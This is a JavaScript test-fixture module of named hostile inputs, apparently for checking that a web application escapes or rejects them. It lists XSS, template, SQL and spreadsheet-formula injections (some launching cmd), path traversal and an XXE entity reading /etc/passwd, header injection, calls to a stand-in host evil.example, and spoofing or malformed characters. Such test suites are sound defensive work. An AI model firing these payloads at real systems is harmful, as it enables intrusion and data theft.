// payloads.mjs: what attackers type. Each is a String with a name; `hit` is
// what a script would call if it ran. SPDX-License-Identifier: Apache-2.0
const list = (names, make) => Object.entries(names).map(([name, text]) => make(name, text));
const named = (name, text, more = {}) => Object.assign(new String(text), { name, ...more });

// Text that a record may hold, and must show as what it is.
export const payloads = list({
	'script': '<script>hit(1)</script>',
	'script after a title': '</title><script>hit(2)</script>',
	'script after a text field': '</textarea><script>hit(3)</script>',
	'script after an attribute': '"><script>hit(4)</script>',
	'script after a style': '</style></script><script>hit(5)</script>',
	'script in capitals': '<ScRiPt src=//evil.example/6></sCrIpT>',
	'handler of a picture': '<img src=x onerror=hit(7)>',
	'handler after a quotation mark': '" onmouseover="hit(8)" autofocus onfocus="hit(8)',
	'handler after an apostrophe': '\' autofocus onfocus=\'hit(9)\' x=\'',
	'handler after a backtick': '` onclick=hit(10) `',
	'drawing': '<svg onload=hit(11)>',
	'drawing that moves': '<svg><animate onbegin=hit(12) attributeName=x dur=1s>',
	'drawing with a script': '<svg><script>hit(13)</script></svg>',
	'formula of MathML': '<math><mtext><table><mglyph><style><img src=x onerror=hit(14)>',
	'frame': '<iframe srcdoc="<script>parent.hit(15)</script>"></iframe>',
	'link': '<a href="javascript:hit(16)">x</a>',
	'address': 'javascript:hit(17)',
	'address with a blank in it': 'java\u00a0script:hit(18)',
	'address of data': 'data:text/html,<script>hit(19)</script>',
	'style': '<style>*{background:url(//evil.example/20)}</style>',
	'style sheet': '<link rel=stylesheet href=//evil.example/21.css>',
	'base': '<base href=//evil.example/>',
	'refresh': '<meta http-equiv=refresh content="0;url=//evil.example/23">',
	'form': '</form><form action=//evil.example/><button>24',
	'object': '<object data=//evil.example/25></object><embed src=//evil.example/25>',
	'remark': '<!-- --!><script>hit(26)</script>',
	'end of a section': ']]><script>hit(27)</script>',
	'entities': '&lt;script&gt;hit(28)&lt;/script&gt;&#60;b&#62;&quot;',
	'template in braces': '{{constructor.constructor("hit(29)")()}} {{{x}}}',
	'template in dollars': '${hit(30)} #{hit(30)} <%= hit(30) %>',
	'our own holes': '{for} {answer} {title} {member} [[x]] @root %s %n %llu',
	'SQL after an apostrophe': '\'; DROP TABLE entry; --',
	'SQL after a quotation mark': '" OR "1"="1',
	'SQL with a union': '1) UNION SELECT line FROM key --',
	'formula': '=HYPERLINK("http://evil.example/","x")',
	'formula with a plus': '+cmd|\' /C calc\'!A0',
	'formula with an at': '@SUM(1+1)*cmd|\' /C calc\'!A0',
	'formula with a minus': '-2+3+cmd|\' /C calc\'!A0',
	'path': '../../../../../../etc/passwd',
	'path, escaped': '..%2f..%2f..%2f..%2fetc%2fpasswd%00.html',
	'calendar': 'END:VEVENT\\nBEGIN:VALARM;X="y":a,b\\',
	'feed': '</title></entry><entry><id>x</id>',
	'document type': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
	'header': 'x%0d%0aX-Injected: 1%0d%0a%0d%0a<script>hit(44)</script>',
}, named);

// What no text may hold. `enc` is how it stands in a form; in text of several
// lines a line's end is no attack.
export const refused = [
	named('line ends', 'x\r\nX-Injected: 1', { prose: true }),
	named('turned writing', 'invoice\u202efdp.exe'),
	named('isolated writing', 'a\u2066b\u2069c'),
	named('separator of lines', 'a\u2028b'),
	named('escape', 'a\u001b[2Jb'),
	named('NUL', 'a\u0000<script>', { enc: 'a%00%3Cscript%3E' }),
	named('overlong UTF-8', '?', { enc: '%C0%BCscript%C0%BE' }),
	named('half a pair', '?', { enc: 'a%ED%A0%80b' }),
	named('no UTF-8', '?', { enc: '%FF%FEx' }),
	named('a broken escape', '?', { enc: '%zz' }),
	named('40 kB', 'x'.repeat(40001)),
];
